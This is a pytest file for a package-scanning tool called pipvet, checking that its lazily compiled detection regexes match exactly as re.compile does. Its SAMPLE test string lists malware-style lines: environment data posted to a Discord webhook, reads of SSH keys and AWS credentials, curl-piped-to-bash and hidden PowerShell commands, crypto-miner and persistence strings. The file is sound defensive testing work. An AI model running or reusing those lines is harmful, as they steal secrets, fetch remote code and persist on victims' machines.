"""Lazily compiled patterns: nothing is compiled at import, and each behaves as ``re.compile``."""

from __future__ import annotations

import importlib
import json
import pkgutil
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType

import pytest

import pipvet.analysis
import pipvet.analysis.rules
from pipvet.analysis.lazyre import LazyPattern
from pipvet.analysis.rules._signals import Gated

SAMPLE = r"""
import os, requests, socket, base64, subprocess
requests.post("https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz", data=os.environ)
urllib.request.urlopen('http://203.0.113.7:8080/x'); s = socket.socket(); s.connect(("198.51.100.1", 4444))
open(os.path.expanduser("~/.ssh/id_rsa")).read(); open('/etc/passwd'); p = '~/.aws/credentials'
blob = "TVqQAAMAAAAEAAAA//8AALgAAAAA" + "f0VMRgIBAQAAAAAA" + "4d5a90000300000004"
exec(base64.b64decode(x)); eval(compile(s, '<x>', 'exec')); __import__('builtins')
subprocess.Popen("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=", shell=True)
os.system('curl -s http://example.invalid/x.sh | bash')
os.system("wget -O /tmp/.x http://h/x && chmod +x /tmp/.x")
stratum+tcp://pool.example:3333 --donate-level 1 xmrig; CreateProcess VirtualAlloc RtlMoveMemory
schtasks /create /tn x; HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run; ~/.bashrc crontab -l
pyperclip.paste() 1BoatSLRHtKNngkdXEeobR76b53LETtpyT 0x52908400098527886E0F7030069857D2E4169EE7
platform.node() getpass.getuser() api.ipify.org uuid.getnode() os.getlogin()
\x4d\x5a\x90\x00 \x48\x65\x6c\x6c\x6f __pyarmor__(__name__, __file__, b'x')
tests/test_x.py docs/conf.py foo-1.0/src/pkg/mod.py backend-path = ["."]
"""


def _patterns_in(value: object, seen: set[int]) -> Iterator[LazyPattern[str] | LazyPattern[bytes]]:
    if id(value) in seen:
        return
    seen.add(id(value))
    if isinstance(value, LazyPattern):
        yield value
    elif isinstance(value, Gated):
        yield from _patterns_in(value.pattern, seen)
    elif isinstance(value, tuple | list | frozenset | set):
        for item in value:
            yield from _patterns_in(item, seen)
    elif isinstance(value, dict):
        for item in value.values():
            yield from _patterns_in(item, seen)
    elif isinstance(value, type):
        for item in vars(value).values():
            yield from _patterns_in(item, seen)


def analysis_modules() -> list[ModuleType]:
    names = [info.name for info in pkgutil.walk_packages(pipvet.analysis.__path__, "pipvet.analysis.")]
    return [importlib.import_module(name) for name in sorted(names)]


def module_patterns() -> list[tuple[str, str, LazyPattern[str] | LazyPattern[bytes]]]:
    """(module, global name, pattern) of every lazy pattern defined at module or class level."""
    found = []
    seen: set[int] = set()
    for module in analysis_modules():
        for name, value in vars(module).items():
            if isinstance(value, type) and value.__module__ != module.__name__:
                continue  # a class imported from elsewhere: walked in its own module
            for pattern in _patterns_in(value, seen):
                found.append((module.__name__, name, pattern))
    return found


def test_importing_the_rules_compiles_no_pattern() -> None:
    """In a fresh interpreter, importing every analysis module leaves every pattern uncompiled."""
    code = (
        "import json, re, sys\n"
        "sys.path.insert(0, sys.argv[1])\n"
        "import pipvet.cli.inspect, pipvet.inspection, pipvet.analysis.engine\n"
        "from test_lazyre import module_patterns\n"
        "found = module_patterns()\n"
        "print(json.dumps({\n"
        "    'total': len(found),\n"
        "    'compiled': [f'{m}.{n}' for m, n, p in found if p.is_compiled],\n"
        "}))\n"
    )
    folder = str(Path(__file__).parent)
    proc = subprocess.run(
        [sys.executable, "-c", code, folder], capture_output=True, text=True, check=True, timeout=120
    )
    report = json.loads(proc.stdout)
    assert report["compiled"] == []
    assert report["total"] >= 100  # the rule families define well over a hundred patterns


def test_no_rule_module_compiles_a_pattern_at_import() -> None:
    """No module of the analysis package keeps an eagerly compiled pattern at module level."""
    eager = [
        f"{module.__name__}.{name}"
        for module in analysis_modules()
        for name, value in vars(module).items()
        if isinstance(value, re.Pattern)
        or (isinstance(value, tuple | dict) and any(isinstance(v, re.Pattern) for v in _flat(value)))
    ]
    assert eager == []


def _flat(value: tuple[object, ...] | dict[object, object]) -> Iterator[object]:
    for item in value.values() if isinstance(value, dict) else value:
        if isinstance(item, tuple):
            yield from item
        else:
            yield item


@pytest.mark.parametrize(
    ("module", "name", "pattern"),
    [
        pytest.param(m, n, p, id=f"{m.rsplit('.', 1)[-1]}.{n}:{i}")
        for i, (m, n, p) in enumerate(module_patterns())
    ],
)
def test_each_lazy_pattern_behaves_like_re_compile(
    module: str, name: str, pattern: LazyPattern[str] | LazyPattern[bytes]
) -> None:
    if isinstance(pattern.pattern, bytes):
        text: str | bytes = SAMPLE.encode()
    else:
        text = SAMPLE
    eager = re.compile(pattern.pattern, pattern.flags)
    assert pattern.is_compiled  # reading .flags compiled it
    assert pattern.compiled.pattern == eager.pattern
    assert pattern.flags == eager.flags
    assert pattern.groups == eager.groups
    spans = [(m.span(), m.groups()) for m in pattern.finditer(text)]  # type: ignore[arg-type]
    assert spans == [(m.span(), m.groups()) for m in eager.finditer(text)]  # type: ignore[arg-type]
    assert pattern.findall(text) == eager.findall(text)  # type: ignore[arg-type]
    for pos in (0, 5, len(text) // 2):
        got = pattern.search(text, pos)  # type: ignore[arg-type]
        want = eager.search(text, pos)  # type: ignore[arg-type]
        assert (got and got.span()) == (want and want.span())


def _compiled(pattern: LazyPattern[str]) -> bool:
    return pattern.is_compiled  # read through a call so that the type checker does not narrow it


def test_lazy_pattern_compiles_on_first_use_only() -> None:
    lazy = LazyPattern(r"(\d+)-(\d+)", re.I)
    assert not _compiled(lazy)
    assert lazy.pattern == r"(\d+)-(\d+)"  # the source is there without compiling
    assert "not compiled" in repr(lazy)
    assert not _compiled(lazy)
    match = lazy.search("a 12-34 b")
    assert _compiled(lazy)
    assert match is not None
    assert match.groups() == ("12", "34")
    first = lazy.compiled
    assert lazy.compiled is first


def test_lazy_pattern_methods_match_re() -> None:
    lazy = LazyPattern(r"(?P<word>[a-z]+)(\d)?")
    eager = re.compile(r"(?P<word>[a-z]+)(\d)?")
    text = "abc1 de fgh2 IJ"
    assert lazy.match(text) is not None
    assert lazy.match(text, 4) is None
    whole = lazy.fullmatch("abc1")
    assert whole is not None
    assert whole.group(0) == "abc1"
    assert lazy.fullmatch(text) is None
    assert lazy.findall(text) == eager.findall(text)
    assert lazy.split(text) == eager.split(text)
    assert lazy.split(text, 1) == eager.split(text, 1)
    assert lazy.sub("<>", text) == eager.sub("<>", text)
    assert lazy.sub(lambda m: m.group("word").upper(), text, 1) == "ABC de fgh2 IJ"
    assert lazy.subn("-", text) == eager.subn("-", text)
    assert [m.span() for m in lazy.finditer(text, 2, 10)] == [m.span() for m in eager.finditer(text, 2, 10)]
    assert lazy.search(text, 0, 3) is not None
    assert lazy.flags == eager.flags
    assert lazy.groups == 2


def test_lazy_pattern_on_bytes() -> None:
    lazy = LazyPattern(rb"coding[:=]\s*([-\w.]+)")
    match = lazy.search(b"# -*- coding: latin-1 -*-")
    assert match is not None
    assert match.group(1) == b"latin-1"
    assert lazy.flags == re.compile(rb"x").flags


def test_gated_patterns_keep_their_interface() -> None:
    from pipvet.analysis.rules._signals import NETWORK_SINK

    assert isinstance(NETWORK_SINK, Gated)
    assert "requests" in NETWORK_SINK.words
    found = NETWORK_SINK.pattern.finditer("x = 1\nrequests.post(u)\n", 6, 22)
    assert [m.group(0) for m in found] == ["requests.post"]


def test_all_rule_families_are_imported() -> None:
    """The walk above covers the registry's modules (guards against a silent empty walk)."""
    modules = {type(rule).__module__ for rule in pipvet.analysis.rules.ALL_RULES}
    walked = {m.__name__ for m in analysis_modules()}
    assert modules <= walked
